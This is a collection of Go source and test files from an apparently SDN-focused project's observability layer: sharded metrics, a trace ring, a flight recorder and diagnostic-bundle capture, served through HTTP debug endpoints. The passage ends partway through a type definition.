// TestTracerConcurrentStartSnapshot hammers Tracer.Start/span/Finish
// from many goroutines while concurrently snapshotting the ring and
// serving /traces. Under -race this flushes out torn spans; the
// assertions check no snapshot ever exposes a half-written trace.
func TestTracerConcurrentStartSnapshot(t *testing.T) {
	tr := NewTracer(64, 1) // sample everything: maximum ring churn
	const workers = 8
	const perWorker = 400
	h := NewHandler(NewRegistry(), tr)

	stop := make(chan struct{})
	var readers, writers sync.WaitGroup
	// Snapshot readers racing the writers, both directly and through
	// the HTTP surface.
	for r := 0; r < 2; r++ {
		readers.Add(1)
		go func() {
			defer readers.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				for _, snap := range tr.Recent() {
					checkTraceSnapshot(t, snap)
				}
				rec := httptest.NewRecorder()
				h.ServeHTTP(rec, httptest.NewRequest("GET", "/traces", nil))
				if rec.Code != 200 {
					t.Errorf("/traces status %d", rec.Code)
					return
				}
			}
		}()
	}
	for w := 0; w < workers; w++ {
		writers.Add(1)
		go func() {
			defer writers.Done()
			for i := 0; i < perWorker; i++ {
				trace := tr.Start("op")
				sp := trace.StartSpan("ksd_queue")
				sp.End()
				trace.AddSpan("exec", time.Now(), time.Microsecond)
				trace.Finish()
			}
		}()
	}
	writers.Wait()
	close(stop)
	readers.Wait()

	recent := tr.Recent()
	if len(recent) != 64 {
		t.Fatalf("ring holds %d traces, want full 64", len(recent))
	}
	seen := make(map[string]bool, len(recent))
	for _, snap := range recent {
		checkTraceSnapshot(t, snap)
		if seen[snap.ID] {
			t.Fatalf("duplicate trace id %s in ring", snap.ID)
		}
		seen[snap.ID] = true
	}
}

// checkTraceSnapshot asserts one snapshot is internally consistent —
// no torn reads: every span fully named with sane timings, trace
// fields all present.
func checkTraceSnapshot(t *testing.T, snap TraceSnapshot) {
	t.Helper()
	if snap.ID == "" || snap.Op != "op" || snap.Start.IsZero() {
		t.Errorf("torn trace: %+v", snap)
	}
	if len(snap.Spans) > 2 {
		t.Errorf("trace %s has %d spans, want <= 2", snap.ID, len(snap.Spans))
	}
	for _, sp := range snap.Spans {
		if sp.Name != "ksd_queue" && sp.Name != "exec" {
			t.Errorf("trace %s has torn span name %q", snap.ID, sp.Name)
		}
		if sp.Duration < 0 {
			t.Errorf("trace %s span %s duration %v", snap.ID, sp.Name, sp.Duration)
		}
	}
}
