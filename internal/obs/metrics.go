package obs

import (
	"encoding/json"
	"math"
	"sync/atomic"
	"time"
)

// ---------------------------------------------------------------------------
// Counter

// Counter is a monotonically increasing sharded counter. Increments are
// single atomic adds on a cache-line-padded stripe; reads merge the
// stripes. The zero value is not usable — obtain counters from a
// Registry.
type Counter struct {
	shards []pad64
}

func newCounter() *Counter { return &Counter{shards: make([]pad64, nShards)} }

// Inc adds one.
func (c *Counter) Inc() { c.Add(1) }

// Add adds n. No-op while instrumentation is disabled.
func (c *Counter) Add(n uint64) {
	if c == nil || !enabled.Load() {
		return
	}
	c.shards[shardIndex()].v.Add(n)
}

// Value merges the stripes into the counter's total.
func (c *Counter) Value() uint64 {
	if c == nil {
		return 0
	}
	var sum uint64
	for i := range c.shards {
		sum += c.shards[i].v.Load()
	}
	return sum
}

// ---------------------------------------------------------------------------
// Gauge

// Gauge is an instantaneous value (queue depth, session count). Unlike
// counters it is a single atomic cell: gauges are written far less often
// than hot-path counters, and Set semantics do not stripe.
type Gauge struct {
	v atomic.Int64
}

func newGauge() *Gauge { return &Gauge{} }

// Set stores the gauge value.
func (g *Gauge) Set(v int64) {
	if g == nil || !enabled.Load() {
		return
	}
	g.v.Store(v)
}

// Add moves the gauge by delta (negative to decrease).
func (g *Gauge) Add(delta int64) {
	if g == nil || !enabled.Load() {
		return
	}
	g.v.Add(delta)
}

// Value reads the gauge.
func (g *Gauge) Value() int64 {
	if g == nil {
		return 0
	}
	return g.v.Load()
}

// ---------------------------------------------------------------------------
// Histogram

// defBoundsNanos are the default latency bucket upper bounds: exponential
// from 1µs to ~4.2s (1µs·2^22), which brackets everything from a bare
// permission check to a timed-out switch request. Stored as integer
// nanoseconds so the hot-path bucket search is integer compares.
var defBoundsNanos = func() []int64 {
	bounds := make([]int64, 23)
	b := int64(1000) // 1µs
	for i := range bounds {
		bounds[i] = b
		b *= 2
	}
	return bounds
}()

// Exemplar links a histogram bucket to a concrete trace that landed in
// it, so a slow bucket on the dashboard leads straight to the call-path
// breakdown that produced it. Time is the trace's start timestamp — the
// hot path never reads the clock just to stamp an exemplar.
type Exemplar struct {
	TraceID string        `json:"trace_id"`
	Value   time.Duration `json:"value"`
	Time    time.Time     `json:"time"`
}

// exemplarMinAge rate-limits exemplar replacement per bucket. Exemplars
// exist for a human reading a scrape, so refreshing more than a few
// times a second is waste: inside the window a traced observation costs
// one atomic load and a time comparison — no allocation, no clock read.
const exemplarMinAge = 250 * time.Millisecond

// hshard is one stripe of a histogram: per-bucket counts plus the sum of
// observed nanoseconds.
type hshard struct {
	counts   []atomic.Uint64 // len(bounds)+1; last is +Inf
	sumNanos atomic.Int64
	_        [48]byte
}

// Histogram is a fixed-bucket latency histogram with sharded buckets and
// per-bucket exemplars. Observation cost is one bucket search (integer
// compares) plus two atomic adds on the caller's stripe.
type Histogram struct {
	boundsNanos []int64
	shards      []hshard
	exemplars   []atomic.Pointer[Exemplar] // len(bounds)+1, registry-level
}

func newHistogram() *Histogram {
	h := &Histogram{
		boundsNanos: defBoundsNanos,
		shards:      make([]hshard, nShards),
		exemplars:   make([]atomic.Pointer[Exemplar], len(defBoundsNanos)+1),
	}
	for i := range h.shards {
		h.shards[i].counts = make([]atomic.Uint64, len(defBoundsNanos)+1)
	}
	return h
}

// bucketIndex finds the first bound >= ns. Latencies on the mediated call
// path land in the low microsecond buckets, so a forward scan terminates
// after a handful of compares.
func (h *Histogram) bucketIndex(ns int64) int {
	for i, b := range h.boundsNanos {
		if ns <= b {
			return i
		}
	}
	return len(h.boundsNanos)
}

// Observe records one latency.
func (h *Histogram) Observe(d time.Duration) {
	h.observe(d, nil)
}

// ObserveTraced records one latency and, when the observation belongs to
// a sampled trace, publishes the trace id as the bucket's exemplar.
func (h *Histogram) ObserveTraced(d time.Duration, tr *Trace) {
	h.observe(d, tr)
}

// ObserveTimer records the elapsed time of an active timer; inactive
// timers (obs disabled at StartTimer time) are ignored.
func (h *Histogram) ObserveTimer(t Timer) {
	if h == nil || t.start.IsZero() {
		return
	}
	h.observe(time.Since(t.start), nil)
}

func (h *Histogram) observe(d time.Duration, tr *Trace) {
	if h == nil || !enabled.Load() {
		return
	}
	ns := int64(d)
	if ns < 0 {
		ns = 0
	}
	idx := h.bucketIndex(ns)
	sh := &h.shards[shardIndex()]
	sh.counts[idx].Add(1)
	sh.sumNanos.Add(ns)
	if tr != nil {
		h.updateExemplar(idx, d, tr)
	}
}

// updateExemplar publishes tr as bucket idx's exemplar unless the
// current exemplar is still fresh. The timestamp is the trace's start
// time, already captured when the trace was sampled, so the steady
// state inside exemplarMinAge does no allocation and no clock read.
// The CompareAndSwap means a lost race simply keeps the racer's equally
// fresh exemplar.
func (h *Histogram) updateExemplar(idx int, d time.Duration, tr *Trace) {
	cur := h.exemplars[idx].Load()
	if cur != nil && tr.Start.Sub(cur.Time) < exemplarMinAge {
		return
	}
	h.exemplars[idx].CompareAndSwap(cur, &Exemplar{TraceID: tr.ID, Value: d, Time: tr.Start})
}

// HistogramBucket is one merged bucket of a histogram snapshot.
type HistogramBucket struct {
	// LE is the bucket's inclusive upper bound in seconds; +Inf for the
	// overflow bucket.
	LE float64 `json:"le"`
	// Count is the cumulative number of observations <= LE.
	Count uint64 `json:"count"`
	// Exemplar, when present, names a sampled trace that landed in this
	// bucket (non-cumulative).
	Exemplar *Exemplar `json:"exemplar,omitempty"`
}

// MarshalJSON renders the overflow bucket's bound as the string "+Inf"
// (the Prometheus text convention): encoding/json rejects non-finite
// numbers, and diagnostic bundles serialize snapshots as JSON.
func (b HistogramBucket) MarshalJSON() ([]byte, error) {
	type bucket struct {
		LE       interface{} `json:"le"`
		Count    uint64      `json:"count"`
		Exemplar *Exemplar   `json:"exemplar,omitempty"`
	}
	out := bucket{LE: b.LE, Count: b.Count, Exemplar: b.Exemplar}
	if math.IsInf(b.LE, 0) || math.IsNaN(b.LE) {
		out.LE = "+Inf"
	}
	return json.Marshal(out)
}

// UnmarshalJSON accepts both numeric bounds and the "+Inf" string.
func (b *HistogramBucket) UnmarshalJSON(data []byte) error {
	var in struct {
		LE       json.RawMessage `json:"le"`
		Count    uint64          `json:"count"`
		Exemplar *Exemplar       `json:"exemplar,omitempty"`
	}
	if err := json.Unmarshal(data, &in); err != nil {
		return err
	}
	b.Count, b.Exemplar = in.Count, in.Exemplar
	var f float64
	if err := json.Unmarshal(in.LE, &f); err == nil {
		b.LE = f
		return nil
	}
	var s string
	if err := json.Unmarshal(in.LE, &s); err != nil {
		return err
	}
	b.LE = math.Inf(1)
	return nil
}

// HistogramSnapshot is a merged, point-in-time view of a histogram.
type HistogramSnapshot struct {
	Buckets []HistogramBucket `json:"buckets"`
	Sum     float64           `json:"sum_seconds"`
	Count   uint64            `json:"count"`
}

// Snapshot merges the stripes into cumulative buckets.
func (h *Histogram) Snapshot() HistogramSnapshot {
	if h == nil {
		return HistogramSnapshot{}
	}
	nb := len(h.boundsNanos) + 1
	counts := make([]uint64, nb)
	var sumNanos int64
	for i := range h.shards {
		sh := &h.shards[i]
		for j := 0; j < nb; j++ {
			counts[j] += sh.counts[j].Load()
		}
		sumNanos += sh.sumNanos.Load()
	}
	snap := HistogramSnapshot{Buckets: make([]HistogramBucket, nb)}
	var cum uint64
	for j := 0; j < nb; j++ {
		cum += counts[j]
		le := math.Inf(1)
		if j < len(h.boundsNanos) {
			le = float64(h.boundsNanos[j]) / 1e9
		}
		snap.Buckets[j] = HistogramBucket{LE: le, Count: cum, Exemplar: h.exemplars[j].Load()}
	}
	snap.Count = cum
	snap.Sum = float64(sumNanos) / 1e9
	return snap
}

// Count returns the total number of observations.
func (h *Histogram) Count() uint64 {
	if h == nil {
		return 0
	}
	var cum uint64
	for i := range h.shards {
		sh := &h.shards[i]
		for j := range sh.counts {
			cum += sh.counts[j].Load()
		}
	}
	return cum
}
