package recorder

import (
	"encoding/json"
	"net/http"
	"strconv"

	"sdnshield/internal/obs"
)

// HTTP surface, mounted on every obs introspection endpoint:
//
//	/apps         — per-app resource usage from every registered
//	                provider (live, one JSON object per shield)
//	/debug/bundle — retained diagnostic bundles: list, fetch by ?id=,
//	                capture on demand with ?capture=1 (optionally
//	                ?app=, ?corr=, ?detail=)

func serveApps(w http.ResponseWriter, r *http.Request) {
	writeJSON(w, usageSnapshots())
}

func serveBundle(w http.ResponseWriter, r *http.Request) {
	q := r.URL.Query()
	if q.Get("capture") != "" || r.Method == http.MethodPost {
		var corr uint64
		if c := q.Get("corr"); c != "" {
			v, err := strconv.ParseUint(c, 10, 64)
			if err != nil {
				http.Error(w, "bad corr: "+err.Error(), http.StatusBadRequest)
				return
			}
			corr = v
		}
		bundle := defBundler.Capture(TriggerManual, q.Get("app"), corr, q.Get("detail"))
		writeJSON(w, bundle)
		return
	}
	if id := q.Get("id"); id != "" {
		bundle := defBundler.Get(id)
		if bundle == nil {
			http.Error(w, "no such bundle (evicted or never captured)", http.StatusNotFound)
			return
		}
		writeJSON(w, bundle)
		return
	}
	writeJSON(w, struct {
		Bundles     []BundleInfo `json:"bundles"`
		WriteErrors uint64       `json:"write_errors,omitempty"`
	}{defBundler.Recent(), defBundler.WriteErrors()})
}

func writeJSON(w http.ResponseWriter, v interface{}) {
	w.Header().Set("Content-Type", "application/json")
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	_ = enc.Encode(v)
}

func init() {
	obs.RegisterHandler("/apps", http.HandlerFunc(serveApps))
	obs.RegisterHandler("/debug/bundle", http.HandlerFunc(serveBundle))
}
