package recorder

import (
	"encoding/json"
	"net/http"
	"reflect"
	"strconv"
	"strings"

	"sdnshield/internal/obs"
)

// HTTP surface, mounted on every obs introspection endpoint:
//
//	/apps         — per-app resource usage from every registered
//	                provider (live, one JSON object per shield),
//	                filterable by ?tenant= in multi-tenant processes
//	/debug/bundle — retained diagnostic bundles: list, fetch by ?id=,
//	                capture on demand with ?capture=1 (optionally
//	                ?app=, ?corr=, ?detail=)

func serveApps(w http.ResponseWriter, r *http.Request) {
	snaps := usageSnapshots()
	if tenant := r.URL.Query().Get("tenant"); tenant != "" {
		snaps = filterUsageByTenant(snaps, tenant)
	}
	writeJSON(w, snaps)
}

// Apps returns the /apps handler for embedding in tenant-scoped muxes.
func Apps() http.Handler { return http.HandlerFunc(serveApps) }

// filterUsageByTenant keeps only the apps living in one tenant's
// namespace. Providers hand back opaque values (each shield registers
// its own snapshot type), but per-app ones are maps keyed by app name,
// and multi-tenant managers namespace those names "tenant/app" — so the
// filter walks string-keyed maps reflectively and keeps the prefixed
// entries. Providers with no matching apps are omitted entirely.
func filterUsageByTenant(snaps map[string]interface{}, tenant string) map[string]interface{} {
	prefix := tenant + "/"
	out := make(map[string]interface{}, len(snaps))
	for name, v := range snaps {
		rv := reflect.ValueOf(v)
		if !rv.IsValid() || rv.Kind() != reflect.Map || rv.Type().Key().Kind() != reflect.String {
			continue
		}
		kept := reflect.MakeMap(rv.Type())
		for _, k := range rv.MapKeys() {
			if strings.HasPrefix(k.String(), prefix) {
				kept.SetMapIndex(k, rv.MapIndex(k))
			}
		}
		if kept.Len() > 0 {
			out[name] = kept.Interface()
		}
	}
	return out
}

func serveBundle(w http.ResponseWriter, r *http.Request) {
	q := r.URL.Query()
	if q.Get("capture") != "" || r.Method == http.MethodPost {
		var corr uint64
		if c := q.Get("corr"); c != "" {
			v, err := strconv.ParseUint(c, 10, 64)
			if err != nil {
				http.Error(w, "bad corr: "+err.Error(), http.StatusBadRequest)
				return
			}
			corr = v
		}
		bundle := defBundler.Capture(TriggerManual, q.Get("app"), corr, q.Get("detail"))
		writeJSON(w, bundle)
		return
	}
	if id := q.Get("id"); id != "" {
		bundle := defBundler.Get(id)
		if bundle == nil {
			http.Error(w, "no such bundle (evicted or never captured)", http.StatusNotFound)
			return
		}
		writeJSON(w, bundle)
		return
	}
	writeJSON(w, struct {
		Bundles     []BundleInfo `json:"bundles"`
		WriteErrors uint64       `json:"write_errors,omitempty"`
	}{defBundler.Recent(), defBundler.WriteErrors()})
}

func writeJSON(w http.ResponseWriter, v interface{}) {
	w.Header().Set("Content-Type", "application/json")
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	_ = enc.Encode(v)
}

func init() {
	obs.RegisterHandler("/apps", http.HandlerFunc(serveApps))
	obs.RegisterHandler("/debug/bundle", http.HandlerFunc(serveBundle))
}
