package recorder

import (
	"encoding/json"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"sdnshield/internal/obs"
	"sdnshield/internal/obs/audit"
)

func TestCaptureCorrelatesFramesUsageAndAudit(t *testing.T) {
	def.Reset()
	defBundler.SetCooldown(0)
	defer defBundler.SetCooldown(defaultCooldown)

	unreg := RegisterUsage("test-shield", func() interface{} {
		return map[string]int{"greedy": 42}
	})
	defer unreg()
	unregHealth := obs.RegisterHealth("test-shield", func() interface{} { return "ok" })
	defer unregHealth()

	app := Intern("greedy")
	const corr = uint64(777777)
	Record(Frame{Kind: KindMediatedCall, Code: CodeOK, App: app, Op: Intern("insert_flow"), Corr: corr, Dur: 2000})
	Record(Frame{Kind: KindKernelOp, Code: CodeOK, App: app, Op: Intern("add"), Corr: corr, Arg: 3})
	Record(Frame{Kind: KindQuota, Code: CodeBreach, App: app, Op: Intern("cpu_ms_per_sec"), Arg: 950})
	audit.Emit(audit.Event{Kind: audit.KindResource, Verdict: audit.VerdictBreach, App: "greedy", Op: "cpu_ms_per_sec"})
	audit.Default().Flush()

	bundle := Capture(TriggerQuota, "greedy", corr, "cpu budget exceeded")
	if bundle == nil {
		t.Fatal("capture returned nil outside any cooldown")
	}
	if bundle.Trigger != TriggerQuota || bundle.App != "greedy" || bundle.Corr != corr {
		t.Fatalf("bundle header = %+v", bundle)
	}
	if len(bundle.Frames) != 3 {
		t.Fatalf("bundle frames = %d, want 3", len(bundle.Frames))
	}
	if len(bundle.CorrFrames) != 2 {
		t.Fatalf("corr frames = %d, want the 2 sharing corr %d", len(bundle.CorrFrames), corr)
	}
	for _, f := range bundle.CorrFrames {
		if f.Corr != corr {
			t.Fatalf("corr frame with corr %d", f.Corr)
		}
	}
	if u, ok := bundle.Usage["test-shield"].(map[string]int); !ok || u["greedy"] != 42 {
		t.Fatalf("usage = %+v", bundle.Usage)
	}
	if bundle.Anomaly == nil || bundle.Anomaly.App != "greedy" {
		t.Fatalf("anomaly = %+v", bundle.Anomaly)
	}
	foundBreach := false
	for _, ev := range bundle.Audit {
		if ev.Kind == audit.KindResource && ev.Verdict == audit.VerdictBreach {
			foundBreach = true
		}
	}
	if !foundBreach {
		t.Fatal("bundle audit tail lacks the breach event")
	}
	if bundle.Health["test-shield"] != "ok" {
		t.Fatalf("health = %+v", bundle.Health)
	}
	if len(bundle.Metrics) == 0 {
		t.Fatal("bundle has no metrics snapshot")
	}
	if bundle.Runtime.Goroutines < 1 || bundle.Runtime.HeapAlloc == 0 {
		t.Fatalf("runtime stats = %+v", bundle.Runtime)
	}
	if got := defBundler.Get(bundle.ID); got != bundle {
		t.Fatal("bundle not retrievable by id")
	}
}

func TestCaptureCooldownSuppressesBursts(t *testing.T) {
	b := &Bundler{last: make(map[string]time.Time), cooldown: time.Hour}
	if b.Capture(TriggerAnomaly, "flappy", 0, "first") == nil {
		t.Fatal("first capture suppressed")
	}
	if b.Capture(TriggerAnomaly, "flappy", 0, "second") != nil {
		t.Fatal("burst capture not suppressed by cooldown")
	}
	// Different trigger or app: separate cooldown keys.
	if b.Capture(TriggerQuota, "flappy", 0, "") == nil {
		t.Fatal("different trigger suppressed")
	}
	if b.Capture(TriggerAnomaly, "other", 0, "") == nil {
		t.Fatal("different app suppressed")
	}
	// Manual bypasses.
	if b.Capture(TriggerManual, "flappy", 0, "") == nil {
		t.Fatal("manual capture suppressed")
	}
}

func TestCaptureWritesBundleDir(t *testing.T) {
	dir := t.TempDir()
	b := &Bundler{last: make(map[string]time.Time)}
	if err := b.SetDir(filepath.Join(dir, "bundles")); err != nil {
		t.Fatal(err)
	}
	bundle := b.Capture(TriggerQuarantine, "doomed", 0, "panic loop")
	if bundle == nil {
		t.Fatal("capture nil")
	}
	data, err := os.ReadFile(filepath.Join(dir, "bundles", bundle.ID+".json"))
	if err != nil {
		t.Fatal(err)
	}
	var onDisk Bundle
	if err := json.Unmarshal(data, &onDisk); err != nil {
		t.Fatal(err)
	}
	if onDisk.ID != bundle.ID || onDisk.Trigger != TriggerQuarantine || onDisk.App != "doomed" {
		t.Fatalf("on-disk bundle = %+v", onDisk)
	}
	if b.WriteErrors() != 0 {
		t.Fatalf("write errors = %d", b.WriteErrors())
	}
}

func TestAppsAndBundleEndpoints(t *testing.T) {
	defBundler.SetCooldown(0)
	defer defBundler.SetCooldown(defaultCooldown)
	unreg := RegisterUsage("ep-shield", func() interface{} {
		return map[string]string{"appx": "usage"}
	})
	defer unreg()

	h := obs.NewHandler(obs.NewRegistry(), nil)

	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest("GET", "/apps", nil))
	if rec.Code != 200 || !strings.Contains(rec.Body.String(), "ep-shield") {
		t.Fatalf("/apps: %d %s", rec.Code, rec.Body.String())
	}

	// Manual capture through the endpoint.
	rec = httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest("GET", "/debug/bundle?capture=1&app=appx&detail=ondemand", nil))
	var captured Bundle
	if err := json.Unmarshal(rec.Body.Bytes(), &captured); err != nil {
		t.Fatalf("capture response: %v", err)
	}
	if captured.Trigger != TriggerManual || captured.App != "appx" {
		t.Fatalf("captured = %+v", captured)
	}

	// Listed, then fetchable by id.
	rec = httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest("GET", "/debug/bundle", nil))
	var list struct {
		Bundles []BundleInfo `json:"bundles"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &list); err != nil {
		t.Fatal(err)
	}
	if len(list.Bundles) == 0 || list.Bundles[0].ID != captured.ID {
		t.Fatalf("bundle list = %+v", list.Bundles)
	}
	rec = httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest("GET", "/debug/bundle?id="+captured.ID, nil))
	if rec.Code != 200 || !strings.Contains(rec.Body.String(), "ondemand") {
		t.Fatalf("fetch by id: %d", rec.Code)
	}
	rec = httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest("GET", "/debug/bundle?id=nope", nil))
	if rec.Code != 404 {
		t.Fatalf("missing bundle status = %d", rec.Code)
	}
}

func TestAnomalyFlagTriggersFrameAndBundle(t *testing.T) {
	def.Reset()
	defBundler.SetCooldown(0)
	defer defBundler.SetCooldown(defaultCooldown)
	audit.DefaultDetector().Reset()

	prevEnabled := audit.SetEnabled(true)
	defer audit.SetEnabled(prevEnabled)
	t0 := time.Now()
	for i := 0; i < 200; i++ {
		audit.Emit(audit.Event{
			Kind: audit.KindPermission, Verdict: audit.VerdictDeny,
			App: "deny-storm", Time: t0.Add(time.Duration(i) * time.Millisecond),
		})
	}
	audit.Default().Flush()

	frames := def.Snapshot(FrameFilter{App: "deny-storm", Kind: KindAnomaly})
	if len(frames) != 1 || frames[0].Code != "flagged" {
		t.Fatalf("anomaly frames = %+v", frames)
	}
	// The bundle capture runs async off the drain goroutine.
	deadline := time.Now().Add(5 * time.Second)
	for {
		found := false
		for _, info := range defBundler.Recent() {
			if info.Trigger == TriggerAnomaly && info.App == "deny-storm" {
				found = true
			}
		}
		if found {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("no anomaly bundle captured")
		}
		time.Sleep(5 * time.Millisecond)
	}
}
