package recorder

import (
	"sync"
	"testing"
	"time"
)

func TestInternRoundTripsAndDedupes(t *testing.T) {
	a := Intern("app-a")
	b := Intern("op-x")
	if a == b {
		t.Fatal("distinct strings share a symbol")
	}
	if Intern("app-a") != a {
		t.Fatal("re-interning yields a new symbol")
	}
	if a.String() != "app-a" || b.String() != "op-x" {
		t.Fatalf("resolve: %q %q", a.String(), b.String())
	}
	if s := Sym(0).String(); s != "" {
		t.Fatalf("zero symbol = %q, want empty", s)
	}
	if s := Sym(1 << 30).String(); s != "" {
		t.Fatalf("unknown symbol = %q, want empty", s)
	}
}

func TestRecorderRetainsAndFilters(t *testing.T) {
	r := New(64)
	app1, app2 := Intern("fw"), Intern("lb")
	opRead, opInsert := Intern("switches"), Intern("insert_flow")
	base := time.Now().UnixNano()
	r.Record(Frame{TS: base, Kind: KindMediatedCall, Code: CodeOK, App: app1, Op: opRead, Corr: 11, Dur: 1500})
	r.Record(Frame{TS: base + 1, Kind: KindMediatedCall, Code: CodeDenied, App: app2, Op: opInsert, Corr: 12})
	r.Record(Frame{TS: base + 2, Kind: KindKernelOp, Code: CodeOK, App: app1, Op: opInsert, Corr: 11, Arg: 7})
	r.Record(Frame{TS: base + 3, Kind: KindQuota, Code: CodeBreach, App: app1, Op: Intern("cpu_ms_per_sec"), Arg: 900})

	all := r.Snapshot(FrameFilter{})
	if len(all) != 4 {
		t.Fatalf("retained %d frames, want 4", len(all))
	}
	for i := 1; i < len(all); i++ {
		if all[i].Seq <= all[i-1].Seq {
			t.Fatal("snapshot not in sequence order")
		}
	}

	byApp := r.Snapshot(FrameFilter{App: "fw"})
	if len(byApp) != 3 {
		t.Fatalf("app filter kept %d, want 3", len(byApp))
	}
	byCorr := r.Snapshot(FrameFilter{Corr: 11})
	if len(byCorr) != 2 || byCorr[0].Kind != "mediated_call" || byCorr[1].Kind != "kernel_op" {
		t.Fatalf("corr filter = %+v", byCorr)
	}
	if byCorr[1].Arg != 7 {
		t.Fatalf("kernel frame arg (dpid) = %d", byCorr[1].Arg)
	}
	byKind := r.Snapshot(FrameFilter{Kind: KindQuota})
	if len(byKind) != 1 || byKind[0].Code != "breach" || byKind[0].Op != "cpu_ms_per_sec" {
		t.Fatalf("kind filter = %+v", byKind)
	}
	limited := r.Snapshot(FrameFilter{Limit: 2})
	if len(limited) != 2 || limited[1].Kind != "quota" {
		t.Fatalf("limit filter = %+v", limited)
	}
	if got := r.Snapshot(FrameFilter{App: "never-seen"}); got != nil {
		t.Fatalf("unknown app matched %d frames", len(got))
	}
	if r.Snapshot(FrameFilter{})[0].Duration != 1500*time.Nanosecond {
		t.Fatal("duration not resolved")
	}
}

func TestRecorderRingOverwritesOldest(t *testing.T) {
	r := New(8) // per shard; a single goroutine lands on one shard
	app := Intern("churn")
	for i := 0; i < 100; i++ {
		r.Record(Frame{Kind: KindMediatedCall, App: app})
	}
	if r.Recorded() != 100 {
		t.Fatalf("recorded = %d, want 100", r.Recorded())
	}
	got := r.Snapshot(FrameFilter{App: "churn"})
	if len(got) != 8 {
		t.Fatalf("ring kept %d frames, want 8", len(got))
	}
	// The retained frames are the newest ones.
	if got[len(got)-1].Seq != 100 {
		t.Fatalf("newest retained seq = %d, want 100", got[len(got)-1].Seq)
	}
	if r.Len() != 8 {
		t.Fatalf("Len = %d, want 8", r.Len())
	}
}

func TestRecorderDisabledGateSkipsFrames(t *testing.T) {
	prev := SetEnabled(false)
	defer SetEnabled(prev)
	if On() {
		t.Fatal("On() true after disable")
	}
	before := def.Recorded()
	Record(Frame{Kind: KindSupervisor, App: Intern("gated")})
	if def.Recorded() != before {
		t.Fatal("disabled recorder accepted a frame")
	}
}

func TestRecorderConcurrentRecordSnapshot(t *testing.T) {
	r := New(256)
	const workers = 8
	const perWorker = 500
	apps := make([]Sym, workers)
	for i := range apps {
		apps[i] = Intern("w" + string(rune('0'+i)))
	}
	stop := make(chan struct{})
	var readers, writers sync.WaitGroup
	for g := 0; g < 2; g++ {
		readers.Add(1)
		go func() {
			defer readers.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				for _, f := range r.Snapshot(FrameFilter{Limit: 64}) {
					if f.Kind == "unknown" || f.Time.IsZero() {
						t.Errorf("torn frame: %+v", f)
						return
					}
				}
			}
		}()
	}
	for w := 0; w < workers; w++ {
		writers.Add(1)
		go func(app Sym) {
			defer writers.Done()
			for i := 0; i < perWorker; i++ {
				r.Record(Frame{Kind: KindMediatedCall, Code: CodeOK, App: app, Corr: uint64(i + 1)})
			}
		}(apps[w])
	}
	writers.Wait()
	close(stop)
	readers.Wait()
	if r.Recorded() != workers*perWorker {
		t.Fatalf("recorded = %d, want %d", r.Recorded(), workers*perWorker)
	}
}

func BenchmarkRecord(b *testing.B) {
	r := New(2048)
	app, op := Intern("bench"), Intern("switches")
	now := time.Now().UnixNano()
	b.ReportAllocs()
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			r.Record(Frame{TS: now, Kind: KindMediatedCall, Code: CodeOK, App: app, Op: op, Corr: 1, Dur: 1000})
		}
	})
}

func BenchmarkRecordDisabled(b *testing.B) {
	r := New(2048)
	r.enabled.Store(false)
	app, op := Intern("bench"), Intern("switches")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		r.Record(Frame{Kind: KindMediatedCall, App: app, Op: op})
	}
}
