package recorder

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"sort"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"sdnshield/internal/obs"
	"sdnshield/internal/obs/audit"
)

// A diagnostic bundle is the payoff of the always-on recorder: when
// the anomaly detector, a quota breach or a quarantine fires, Capture
// freezes everything an investigation needs — the flight-recorder
// frames around the event, the frames sharing its correlation ID, the
// per-app resource usage, a metrics snapshot, component health, the
// audit tail and Go runtime stats — into one JSON document, retained
// in memory (/debug/bundle) and optionally written to a directory
// (-bundle-dir on the CLIs).

// Trigger names what fired a bundle capture.
type Trigger string

// Bundle triggers.
const (
	TriggerAnomaly    Trigger = "anomaly"
	TriggerQuota      Trigger = "quota_breach"
	TriggerQuarantine Trigger = "quarantine"
	TriggerManual     Trigger = "manual"
	// TriggerSLO marks a bundle captured because an objective's error
	// budget entered fast burn (both SLO burn windows over threshold).
	TriggerSLO Trigger = "slo_breach"
)

// RuntimeStats is the Go runtime's state at capture time.
type RuntimeStats struct {
	Goroutines   int           `json:"goroutines"`
	HeapAlloc    uint64        `json:"heap_alloc_bytes"`
	HeapObjects  uint64        `json:"heap_objects"`
	TotalAlloc   uint64        `json:"total_alloc_bytes"`
	NumGC        uint32        `json:"gc_cycles"`
	GCPauseTotal time.Duration `json:"gc_pause_total_ns"`
}

// Bundle is one correlated diagnostic capture.
type Bundle struct {
	ID      string    `json:"id"`
	Time    time.Time `json:"time"`
	Trigger Trigger   `json:"trigger"`
	App     string    `json:"app,omitempty"`
	Corr    uint64    `json:"corr,omitempty"`
	Detail  string    `json:"detail,omitempty"`
	// Frames is the recorder tail for the app (all apps when App is
	// empty), oldest first.
	Frames []FrameSnapshot `json:"frames"`
	// CorrFrames is every retained frame sharing Corr — the full story
	// of the triggering mediated call across layers.
	CorrFrames []FrameSnapshot `json:"corr_frames,omitempty"`
	// Usage is each registered usage provider's per-app resource view.
	Usage map[string]interface{} `json:"usage,omitempty"`
	// Anomaly is the denial-rate detector's state for App.
	Anomaly *audit.AnomalySnapshot `json:"anomaly,omitempty"`
	// Audit is the journal tail for App (global when App is empty).
	Audit []audit.Event `json:"audit"`
	// Health is every registered obs health provider.
	Health map[string]interface{} `json:"health"`
	// Metrics is the default registry's full series snapshot.
	Metrics []obs.SeriesSnapshot `json:"metrics"`
	// Runtime is the Go runtime's state.
	Runtime RuntimeStats `json:"runtime"`
	// Profiles is the continuous profiler's capture index (obs/prof),
	// when one is running: the delta pprof captures joined to this
